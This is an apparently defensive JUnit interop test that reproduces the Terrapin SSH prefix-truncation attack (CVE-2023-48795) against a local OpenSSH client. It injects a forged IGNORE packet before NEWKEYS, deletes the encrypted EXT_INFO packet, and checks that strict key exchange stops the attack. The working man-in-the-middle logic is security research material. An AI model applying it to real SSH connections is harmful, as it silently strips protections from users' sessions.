package org.sshwire.interop;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertFalse;
import static org.junit.jupiter.api.Assertions.assertNotEquals;
import static org.junit.jupiter.api.Assertions.assertTrue;

import java.nio.ByteBuffer;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.ArrayDeque;
import java.util.Deque;
import java.util.List;
import java.util.concurrent.CopyOnWriteArrayList;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;
import org.sshwire.auth.AuthorizedKeysVerifier;
import org.sshwire.auth.ServerAuthPolicy;
import org.sshwire.connection.research.ConnectionResearch;
import org.sshwire.connection.server.SshServer;
import org.sshwire.testvectors.OpenSsh;
import org.sshwire.transport.Direction;
import org.sshwire.transport.crypto.CryptoBackend;
import org.sshwire.transport.keys.SshKeyPair;
import org.sshwire.transport.research.ConnectionHooks;
import org.sshwire.transport.research.TransportPolicy;
import org.sshwire.transport.wire.MessageNumbers;

/**
 * RESEARCH.md's Terrapin recipe (CVE-2023-48795) with OpenSSH's {@code ssh} as the victim: the
 * attack runs on our server's outbound wire (the server-to-client stream, cut on packet
 * boundaries as a man in the middle would), IGNORE before NEWKEYS and the first encrypted packet
 * (EXT_INFO) deleted. With strict kex off on our side, ssh logs in and runs the command without
 * ever seeing EXT_INFO; with strict kex (the default on both), ssh refuses the connection.
 */
class TerrapinInteropTest {
    static final CryptoBackend C = CryptoBackend.defaultBackend();

    @TempDir
    Path dir;

    static ByteBuffer forgedIgnore() {
        ByteBuffer b = ByteBuffer.allocate(16);
        b.putInt(12).put((byte) 6).put((byte) MessageNumbers.SSH_MSG_IGNORE).putInt(0).put(new byte[6]).flip();
        return b;
    }

    /** Attack (or not) one connection; strict kex as given on our side. */
    static ConnectionHooks hooks(boolean attack, boolean strictKex, List<String> log) {
        Deque<Integer> numbers = new ArrayDeque<>();
        ConnectionHooks.Builder b = ConnectionHooks.builder().policy(TransportPolicy.builder().strictKex(strictKex).build());
        if (!attack) {
            return b.build();
        }
        return b.payloadObserver((c, dir, seq, p) -> {
            if (dir == Direction.OUTBOUND) {
                numbers.add(p.msgId());
            }
        }).wireInterceptor((c, dir, seq, sealed) -> {
            if (dir != Direction.OUTBOUND) {
                return List.of(sealed);
            }
            int msg = numbers.remove();
            if (msg == MessageNumbers.SSH_MSG_NEWKEYS) {
                log.add("IGNORE injected before NEWKEYS");
                return List.of(forgedIgnore(), sealed);
            }
            if (msg == MessageNumbers.SSH_MSG_EXT_INFO) {
                log.add("EXT_INFO deleted");
                return List.of();
            }
            return List.of(sealed);
        }).build();
    }

    OpenSsh.Result ssh(boolean attack, boolean strictKex, List<String> log) throws Exception {
        try (SshServer server = SshServer.builder().listen("127.0.0.1", 0).hostKey(SshKeyPair.generate("ssh-ed25519", 0, C))
                .auth(ServerAuthPolicy.builder().publicKeys(AuthorizedKeysVerifier.files(u -> dir.resolve("authorized_keys"), C)).build())
                .handler(s -> {
                    s.stdout().write("MARKER\n".getBytes(StandardCharsets.UTF_8));
                    s.exit(0);
                })
                .research(info -> ConnectionResearch.of(hooks(attack, strictKex, log)))
                .build().start()) {
            return OpenSsh.run(List.of(OpenSsh.SSH.toString(), "-v", "-F", "/dev/null", "-i", dir.resolve("id").toString(),
                    "-o", "StrictHostKeyChecking=no", "-o", "UserKnownHostsFile=/dev/null", "-o", "BatchMode=yes",
                    "-o", "Ciphers=chacha20-poly1305@openssh.com",
                    "-p", Integer.toString(server.port()), "test@127.0.0.1", "true"), 60);
        }
    }

    @Test
    void sshLosesExtInfoUnnoticedWithoutStrictKexAndRefusesTheAttackWithIt() throws Exception {
        OpenSsh.require(OpenSsh.SSH);
        OpenSsh.require(OpenSsh.SSH_KEYGEN);
        OpenSsh.Result r = OpenSsh.run(List.of(OpenSsh.SSH_KEYGEN.toString(), "-q", "-t", "ed25519", "-N", "", "-f",
                dir.resolve("id").toString()), 60);
        assertEquals(0, r.exit(), r.stderr());
        Files.copy(dir.resolve("id.pub"), dir.resolve("authorized_keys"));

        List<String> log = new CopyOnWriteArrayList<>();
        OpenSsh.Result control = ssh(false, false, log);
        assertEquals("MARKER\n", control.stdout(), control.stderr());
        assertTrue(control.stderr().contains("SSH2_MSG_EXT_INFO received"), control.stderr());

        OpenSsh.Result attacked = ssh(true, false, log);
        System.out.println("recipe: without strict kex: ssh exit " + attacked.exit() + ", stdout " + attacked.stdout().strip()
                + ", EXT_INFO received " + attacked.stderr().contains("SSH2_MSG_EXT_INFO received"));
        assertEquals(List.of("IGNORE injected before NEWKEYS", "EXT_INFO deleted"), log);
        assertEquals("MARKER\n", attacked.stdout(), attacked.stderr());
        assertEquals(0, attacked.exit(), attacked.stderr());
        assertFalse(attacked.stderr().contains("SSH2_MSG_EXT_INFO received"), attacked.stderr());

        log.clear();
        OpenSsh.Result refused = ssh(true, true, log);
        String why = refused.stderr().lines().filter(l -> l.contains("strict KEX")).findFirst().orElse("");
        System.out.println("recipe: with strict kex: ssh exit " + refused.exit() + ", stdout '" + refused.stdout().strip() + "': " + why);
        assertNotEquals(0, refused.exit());
        assertEquals("", refused.stdout());
        assertFalse(why.isEmpty(), refused.stderr());
    }
}
